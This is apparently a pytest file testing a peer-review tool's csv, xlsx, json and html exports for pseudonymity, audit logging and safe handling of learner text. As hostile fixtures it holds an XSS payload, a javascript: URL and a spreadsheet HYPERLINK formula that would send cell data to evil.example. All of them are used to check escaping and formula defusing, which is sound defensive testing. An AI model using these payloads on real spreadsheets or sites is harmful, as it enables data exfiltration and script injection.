"""Exports in csv, xlsx, json and html: they re-import, open, hold the right tables, name
nobody unless asked, and survive hostile learner text."""

from __future__ import annotations

import io
import json
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from reviews import PermissionDenied, Workbook
from reviews.classroom.roles import Administrator
from reviews.cli import cli
from reviews.cli import export as export_cli
from reviews.export import FORMATS, TABLES, export, export_to, suggested_filename

HOSTILE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture
def classroom(wb: Workbook) -> Workbook:
    a = wb.add_resource(url="https://example.org/a", title="Atrial fibrillation",
                        added_by="learner-1", topics=["arrhythmia", "ecg"])  # fmt: skip
    b = wb.add_resource(url="https://example.org/b", title=HOSTILE, added_by="learner-2")
    wb.add_resource(url="https://example.org/c", title=FORMULA, added_by="learner-2")
    for who, score in (("learner-1", 4), ("learner-2", 5), ("learner-3", 3)):
        wb.submit_review(a.id, who, {"overall": score}, comment=f"{HOSTILE} by {who}")
    wb.submit_review(b.id, "learner-1", {"overall": 2})
    c = wb.add_correction(b.id, "learner-2", claim=HOSTILE, correction=f"fix {HOSTILE}",
                          evidence="javascript:alert(1)", locator="02:00")  # fmt: skip
    wb.verify_correction(c.id, actor="tutor-1", note=HOSTILE)
    wb.vote(c.id, "learner-3", agree=True)
    wb.set_calibration(a.id, actor="tutor-1", scores={"overall": 4})
    return wb


# -- csv -----------------------------------------------------------------------------------


def test_summary_csv_reads_back_with_pandas(classroom: Workbook) -> None:
    back = pd.read_csv(io.BytesIO(export(classroom, "csv")))
    summary = classroom.summary()
    assert list(back.columns) == list(summary.columns)  # the BOM does not stick to "id"
    assert sorted(back["id"]) == sorted(summary["id"])
    got = back.set_index("id")["score"].sort_index()
    want = summary.set_index("id")["score"].sort_index()
    pd.testing.assert_series_equal(got, want, check_dtype=False)


def test_resources_csv_reimports_with_the_importer(classroom: Workbook, tmp_path: Path) -> None:
    path = export_to(classroom, "csv", tmp_path / "resources.csv", table="resources")
    fresh = Workbook.create(tmp_path / "fresh", title="Next year", tutors=["t"])
    result = CliRunner().invoke(
        cli, ["import", "resources", str(path), "--workbook", str(fresh.path)]
    )
    assert result.exit_code == 0, result.output
    old = {r.url: r for r in classroom.resources()}
    new = {r.url: r for r in Workbook.open(fresh.path).resources()}
    assert set(new) == set(old)
    a = new["https://example.org/a"]
    assert (a.title, a.topics, a.kind) == ("Atrial fibrillation", ["arrhythmia", "ecg"], "article")
    assert new["https://example.org/b"].title == HOSTILE
    assert new["https://example.org/c"].title == "'" + FORMULA  # defused, see below


def test_csv_defuses_text_a_spreadsheet_would_run(classroom: Workbook) -> None:
    text = export(classroom, "csv", table="resources").decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text
    frame = pd.read_csv(io.BytesIO(export(classroom, "csv")))
    assert not frame["title"].str.startswith("=").any()
    assert (frame["score"].dropna() > 0).all()  # numbers are left alone


def test_every_table_can_be_written_as_csv(classroom: Workbook) -> None:
    for table in TABLES:
        frame = pd.read_csv(io.BytesIO(export(classroom, "csv", table=table)))
        assert len(frame) > 0, table
        assert "learner-" not in frame.to_csv(), table


def test_the_reviews_csv_is_long_and_pseudonymous(classroom: Workbook) -> None:
    frame = pd.read_csv(io.BytesIO(export(classroom, "csv", table="reviews")))
    assert len(frame) == 5  # one item (stars) per review, tutor's reference included
    assert set(frame["reviewer"]) == {
        classroom.pseudonym(n) for n in ("learner-1", "learner-2", "learner-3", "tutor-1")
    }
    named = pd.read_csv(io.BytesIO(export(classroom, "csv", table="reviews",
                                          include_identities=True, actor="tutor-1")))  # fmt: skip
    assert list(named.columns[2:4]) == ["reviewer", "reviewer_name"]


# -- xlsx and json ---------------------------------------------------------------------------


def test_xlsx_opens_with_pandas_and_holds_every_table(classroom: Workbook) -> None:
    sheets = pd.read_excel(io.BytesIO(export(classroom, "xlsx")), sheet_name=None)
    assert list(sheets) == [*TABLES, "About"]
    assert len(sheets["summary"]) == 3
    assert sorted(sheets["summary"]["id"]) == sorted(classroom.summary()["id"])
    corrections = sheets["corrections"]
    assert corrections.loc[0, "claim"] == HOSTILE
    assert corrections.loc[0, "status"] == "verified"
    assert pd.api.types.is_datetime64_any_dtype(corrections["created_at"])
    assert "learner-" not in "".join(frame.to_csv() for frame in sheets.values())


def test_xlsx_stores_formula_like_text_as_text(classroom: Workbook) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export(classroom, "xlsx")))
    cells = [c for row in book["resources"].iter_rows() for c in row if c.value == FORMULA]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # text, never a formula Excel would run


def test_json_has_one_key_per_table_and_an_about(classroom: Workbook) -> None:
    document = json.loads(export(classroom, "json"))
    assert list(document) == ["about", *TABLES]
    assert document["about"]["identities"] is False
    assert document["about"]["workbook"] == "Cardiology block"
    (row,) = [r for r in document["summary"] if r["title"] == HOSTILE]
    assert row["n_reviews"] == 1
    unrated = [r for r in document["summary"] if r["n_reviews"] == 0]
    assert unrated and unrated[0]["score"] is None  # NaN is null, never a number
    assert "learner-" not in json.dumps(document)
    assert {r["learner"] for r in document["participation"]} >= {classroom.pseudonym("learner-1")}


def test_identities_add_names_and_are_audited(classroom: Workbook) -> None:
    document = json.loads(export(classroom, "json", include_identities=True, actor="tutor-1"))
    assert document["about"]["identities"] is True
    names = {r["learner_name"] for r in document["participation"]}
    assert names == {"learner-1", "learner-2", "learner-3"}
    (event,) = [e for e in classroom.audit_log() if e.action == "export"]
    assert event.actor == "tutor-1"
    assert event.reason == "json export with learners' real names (all tables)"


def test_pseudonymous_exports_are_not_audited(classroom: Workbook) -> None:
    for fmt in FORMATS:
        export(classroom, fmt)
    assert [e for e in classroom.audit_log() if e.action == "export"] == []


# -- html -------------------------------------------------------------------------------------


class Resources(HTMLParser):
    """Every tag and its URL-bearing attributes, to check the report is self-contained."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.urls: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name in ("src", "href", "srcset", "data", "action") and value is not None:
                self.urls.append((tag, name, value))


def parse(html: str) -> Resources:
    parser = Resources()
    parser.feed(html)
    return parser


def test_the_report_is_self_contained(classroom: Workbook) -> None:
    html = export(classroom, "html").decode("utf-8")
    found = parse(html)
    assert {"script", "link", "iframe", "object", "embed"} & set(found.tags) == set()
    for tag, _, url in found.urls:
        if tag != "a":  # links to the resources are fine; nothing is fetched to render
            assert url.startswith("data:image/png;base64,"), (tag, url[:60])
    assert "@import" not in html and "url(" not in html
    images = [u for t, _, u in found.urls if t == "img"]
    assert len(images) >= 2  # matplotlib is a dependency: the figures are embedded


def test_the_report_escapes_every_learner_string(classroom: Workbook) -> None:
    html = export(classroom, "html").decode("utf-8")
    assert HOSTILE not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert 'href="javascript' not in html.lower()
    imgs = [u for t, _, u in parse(html).urls if t == "img"]
    assert all(u.startswith("data:image/png") for u in imgs)  # no <img src=x> got through


def test_the_report_has_its_sections_and_names_nobody(classroom: Workbook) -> None:
    html = export(classroom, "html").decode("utf-8")
    for section in ("overview", "figures", "resources", "corrections", "agreement", "calibration"):
        assert f'id="{section}"' in html
    assert 'id="participation"' not in html
    assert "learner-" not in html
    assert "fix &lt;img" in html  # the verified correction is listed
    named = export(classroom, "html", include_identities=True, actor="tutor-1").decode("utf-8")
    assert 'id="participation"' in named and "learner-2" in named


def test_the_report_ranks_resources_with_a_verdict_first(classroom: Workbook) -> None:
    html = export(classroom, "html").decode("utf-8")
    body = html[html.index('id="resources"') :]
    assert body.index("Atrial fibrillation") < body.index("&lt;img src=x")


# -- the API around the formats ----------------------------------------------------------------


def test_progress_is_reported_up_to_the_end(classroom: Workbook) -> None:
    for fmt in FORMATS:
        seen: list[float] = []
        export(classroom, fmt, progress=lambda f, _m, seen=seen: seen.append(f))
        assert seen[0] == 0.0 and seen[-1] == 1.0, fmt
        assert seen == sorted(seen), fmt


def test_export_to_writes_atomically(classroom: Workbook, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    path = export_to(classroom, "xlsx", tmp_path / "out" / "report.xlsx")
    assert path.read_bytes()[:2] == b"PK"
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["report.xlsx"]  # no temp file


def test_suggested_filenames(classroom: Workbook) -> None:
    assert suggested_filename(classroom, "csv", "participation").startswith(
        "cardiology-block-participation-"
    )
    assert suggested_filename(classroom, "xlsx").endswith(".xlsx")
    named = suggested_filename(classroom, "html", identities=True)
    assert named.startswith("cardiology-block-export-with-names-") and named.endswith(".html")
    assert "with-names" not in suggested_filename(classroom, "html")


def test_unknown_formats_and_tables_are_refused(classroom: Workbook) -> None:
    from reviews import NotFound

    with pytest.raises(NotFound, match="choose one of csv"):
        export(classroom, "pdf")
    with pytest.raises(NotFound, match="unknown table"):
        export(classroom, "csv", table="grades")


# -- the command line --------------------------------------------------------------------------


def run(*args: str):
    return CliRunner().invoke(cli, ["export", *args], catch_exceptions=False)


SIGNATURES = {"csv": b"\xef\xbb\xbfid,url,", "xlsx": b"PK", "json": b'{\n "about"',
              "html": b"<!doctype html>", "jsonld": b'{\n "@context"'}  # fmt: skip


def test_cli_writes_each_format(classroom: Workbook, tmp_path: Path) -> None:
    assert set(SIGNATURES) == set(FORMATS)
    for fmt, start in SIGNATURES.items():
        out = tmp_path / f"out.{fmt}"
        result = run("--workbook", str(classroom.path), "--format", fmt, "--output", str(out))
        assert result.exit_code == 0, result.output
        assert out.read_bytes().startswith(start), fmt
        assert f"to {out}" in result.stderr


def test_cli_identities_are_the_administrators_and_logged(
    classroom: Workbook, tmp_path: Path
) -> None:
    out = tmp_path / "credit.csv"
    result = run("-w", str(classroom.path), "--format", "csv", "--table", "participation",
                 "--include-identities", "--actor", "cli:registrar", "-o", str(out))  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "learner-1" in out.read_text(encoding="utf-8-sig")
    (event,) = [e for e in Workbook.open(classroom.path).audit_log() if e.action == "export"]
    assert event.actor == "cli:registrar"
    assert "participation table" in event.reason and str(out) in event.reason
    assert event.reason.endswith("as administrator (file access to the workbook)")


def test_cli_writes_to_standard_output(classroom: Workbook) -> None:
    result = run("-w", str(classroom.path), "--format", "json", "-o", "-")
    assert result.exit_code == 0
    assert json.loads(result.stdout)["about"]["workbook"] == "Cardiology block"


def test_cli_prints_progress_only_for_slow_exports(
    classroom: Workbook, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    args = ["-w", str(classroom.path), "--format", "json", "-o", str(tmp_path / "a.json")]
    monkeypatch.setattr(export_cli, "PROGRESS_AFTER_S", 3600.0)
    quiet = run(*args)
    assert "%" not in quiet.stderr
    monkeypatch.setattr(export_cli, "PROGRESS_AFTER_S", 0.0)
    chatty = run(*args, "--force")  # the same file again: replacing it is asked for
    lines = [line for line in chatty.stderr.splitlines() if "%" in line]
    assert lines[0].strip().startswith("0%") and lines[-1].startswith("100%")
    assert "building the participation table" in chatty.stderr


def test_cli_refuses_identities_in_annotations(classroom: Workbook, tmp_path: Path) -> None:
    from reviews.cli import main

    with pytest.raises(SystemExit) as exit_:
        main(["export", "-w", str(classroom.path), "--format", "jsonld", "--include-identities",
              "-o", str(tmp_path / "a.jsonld")])  # fmt: skip
    assert exit_.value.code == 1
    assert not (tmp_path / "a.jsonld").exists()


def test_an_administrator_object_is_needed_for_names_without_a_tutor(classroom: Workbook) -> None:
    with pytest.raises(PermissionDenied):
        export(classroom, "xlsx", include_identities=True, actor="cli:registrar")
    data = export(classroom, "xlsx", include_identities=True, actor=Administrator("cli:x"))
    assert "learner_name" in pd.read_excel(io.BytesIO(data), sheet_name="participation").columns


def test_exports_degrade_without_the_aggregations_extras(
    classroom: Workbook, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without wb.agreement / wb.corrections_summary / intervals in the summary (an older or
    simpler aggregation), the report and tables still come out, saying what is missing."""
    plain = classroom.summary().drop(
        columns=[
            c for c in classroom.summary().columns if c.startswith(("score_low", "score_high"))
        ]
    )
    monkeypatch.setattr(Workbook, "summary", lambda self, rubric=None: plain.copy())
    monkeypatch.delattr(Workbook, "agreement", raising=False)
    monkeypatch.delattr(Workbook, "corrections_summary", raising=False)
    html = export(classroom, "html").decode("utf-8")
    assert "not computed by this version" in html
    assert "Range of review scores" in html
    frame = pd.read_csv(io.BytesIO(export(classroom, "csv", table="corrections")))
    assert "agreement_lb" not in frame.columns and frame.loc[0, "agree"] == 1
